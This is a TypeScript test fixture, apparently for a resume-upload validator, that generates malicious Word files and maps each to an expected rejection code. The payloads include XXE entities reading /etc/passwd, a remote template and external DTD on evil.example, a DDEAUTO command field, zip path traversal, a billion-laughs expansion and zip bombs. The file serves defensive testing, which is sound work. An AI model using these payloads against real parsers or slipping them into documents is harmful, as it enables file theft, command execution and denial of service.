import {
  documentXml,
  docxFrom,
  docxOf,
  paragraph,
  RELATIONS,
  relationsXml,
  typesXml,
} from '../resume-files.ts';
import { zipOf } from '../zip.ts';
import type { MaliciousFile } from './malicious-file.ts';

const MB = 1_048_576;
const zeros = (megabytes: number) => Buffer.alloc(megabytes * MB);
const body = paragraph('Jordan Roy, clerk');
const RESUME = 'Jordan Roy\nOffice clerk';

const relation = (type: string, target: string) =>
  relationsXml(
    `<Relationship Id="r1" Type="${RELATIONS}/${type}" TargetMode="External" Target="${target}"/>`,
  );

/** Nested entities, each ten times the previous one ("billion laughs"). */
const laughs = () => {
  const entities = Array.from(
    { length: 9 },
    (_, index) => `<!ENTITY l${index + 1} "${`&l${index};`.repeat(10)}">`,
  ).join('');
  return documentXml(paragraph('x')).replace(
    '<w:document',
    `<!DOCTYPE lolz [<!ENTITY l0 "lol">${entities}]><w:document`,
  );
};

const withDoctype = (doctype: string) =>
  documentXml(paragraph('x')).replace('<w:document', `${doctype}<w:document`);

/** Files that begin like a Word document, or pretend to. */
export const MALICIOUS_DOCX: Record<string, MaliciousFile> = {
  'picture.docx': { code: 'RESUME_TYPE', make: () => Buffer.from('\x89PNG\r\n\x1a\n', 'latin1') },
  'old-word.docx': {
    code: 'RESUME_TYPE',
    make: () => Buffer.from('d0cf11e0a1b11ae1'.padEnd(1_024, '0'), 'hex'),
  },
  'text.docx': { code: 'RESUME_TYPE', make: () => Buffer.from('{\\rtf1 {\\object\\objdata 00}}') },
  'archive.docx': {
    code: 'RESUME_TYPE',
    make: () => zipOf([{ name: 'resume.txt', content: RESUME }]),
  },
  'sheet.docx': {
    code: 'RESUME_TYPE',
    make: () =>
      zipOf([
        {
          name: '[Content_Types].xml',
          content: typesXml('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'),
        },
        { name: 'xl/workbook.xml', content: '<workbook/>' },
      ]),
  },
  'cut-off.docx': {
    code: 'RESUME_BROKEN',
    make: () => docxOf(RESUME).subarray(0, 300),
  },
  'two-documents.docx': {
    code: 'RESUME_BROKEN',
    make: () =>
      docxFrom(body, [
        { name: 'word/Document.xml', content: documentXml(body) },
        { name: 'WORD/document.xml', content: documentXml(body) },
      ]),
  },
  'no-utf8.docx': {
    code: 'RESUME_BROKEN',
    make: () =>
      docxFrom('', [{ name: 'word/document.xml', content: Buffer.from([0xff, 0xfe, 60]) }]),
  },
  'password.docx': {
    code: 'RESUME_PROTECTED',
    make: () => docxFrom(body, [{ name: 'word/styles.xml', content: '<a/>', isEncrypted: true }]),
  },
  'macros.docx': {
    code: 'RESUME_ACTIVE_CONTENT',
    make: () => docxFrom(body, [{ name: 'word/vbaProject.bin', content: 'macro' }]),
  },
  'renamed-macros.docx': {
    code: 'RESUME_ACTIVE_CONTENT',
    make: () =>
      docxFrom(body, [
        {
          name: '[Content_Types].xml',
          content: typesXml('application/vnd.ms-word.document.macroEnabled.main+xml'),
        },
      ]),
  },
  'enclosed-object.docx': {
    code: 'RESUME_ACTIVE_CONTENT',
    make: () => docxFrom(body, [{ name: 'word/embeddings/oleObject1.xml', content: '<a/>' }]),
  },
  'field-that-acts.docx': {
    code: 'RESUME_ACTIVE_CONTENT',
    make: () =>
      docxFrom(
        `<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>`,
      ),
  },
  'foreign-template.docx': {
    code: 'RESUME_UNSAFE',
    make: () =>
      docxFrom(body, [
        {
          name: 'word/_rels/settings.xml.rels',
          content: relation('attachedTemplate', 'https://evil.example/t.dotm'),
        },
      ]),
  },
  'tracking-picture.docx': {
    code: 'RESUME_UNSAFE',
    make: () =>
      docxFrom(body, [
        {
          name: 'word/_rels/document.xml.rels',
          content: relation('image', 'https://evil.example/seen.png'),
        },
      ]),
  },
  'outside-entity.docx': {
    code: 'RESUME_UNSAFE',
    make: () =>
      docxFrom('', [
        {
          name: 'word/document.xml',
          content: withDoctype('<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
        },
      ]),
  },
  'outside-definitions.docx': {
    code: 'RESUME_UNSAFE',
    make: () =>
      docxFrom('', [
        {
          name: 'word/document.xml',
          content: withDoctype('<!DOCTYPE d SYSTEM "https://evil.example/d.dtd">'),
        },
      ]),
  },
  'billion-laughs.docx': {
    code: 'RESUME_UNSAFE',
    make: () => docxFrom('', [{ name: 'word/document.xml', content: laughs() }]),
  },
  'way-out.docx': {
    code: 'RESUME_UNSAFE',
    make: () => docxFrom(body, [{ name: '../../etc/cron.d/evil', content: 'x' }]),
  },
  'from-the-root.docx': {
    code: 'RESUME_UNSAFE',
    make: () => docxFrom(body, [{ name: '/etc/passwd', content: 'x' }]),
  },
  'windows-way-out.docx': {
    code: 'RESUME_UNSAFE',
    make: () => docxFrom(body, [{ name: '..\\..\\autoexec.bat', content: 'x' }]),
  },
  'bomb.docx': {
    code: 'RESUME_INFLATES',
    make: () => docxFrom(body, [{ name: 'word/media/a.png', content: zeros(70) }]),
  },
  'lying-bomb.docx': {
    code: 'RESUME_INFLATES',
    make: () =>
      docxFrom(body, [{ name: 'word/media/a.png', content: zeros(70), claimedSize: 100 }]),
  },
  'many-bombs.docx': {
    code: 'RESUME_INFLATES',
    make: () =>
      docxFrom(
        body,
        Array.from({ length: 40 }, (_, index) => ({
          name: `word/media/${index}.png`,
          content: zeros(2),
        })),
      ),
  },
  'many-entries.docx': {
    code: 'RESUME_INFLATES',
    make: () =>
      docxFrom(
        body,
        Array.from({ length: 5_000 }, (_, index) => ({ name: `a/${index}.txt`, content: '' })),
      ),
  },
  'ten-thousand-pages.docx': {
    code: 'RESUME_TOO_MANY_PAGES',
    make: () => docxFrom(`${body}<w:p><w:r><w:br w:type="page"/></w:r></w:p>`.repeat(10_000)),
  },
  'endless-text.docx': {
    code: 'RESUME_TOO_MANY_PAGES',
    make: () => docxFrom(paragraph('word '.repeat(2_000)).repeat(2_000)),
  },
  'deep.docx': {
    code: 'RESUME_TOO_COMPLEX',
    make: () => docxFrom(`${'<w:p>'.repeat(100_000)}${'</w:p>'.repeat(100_000)}`),
  },
};
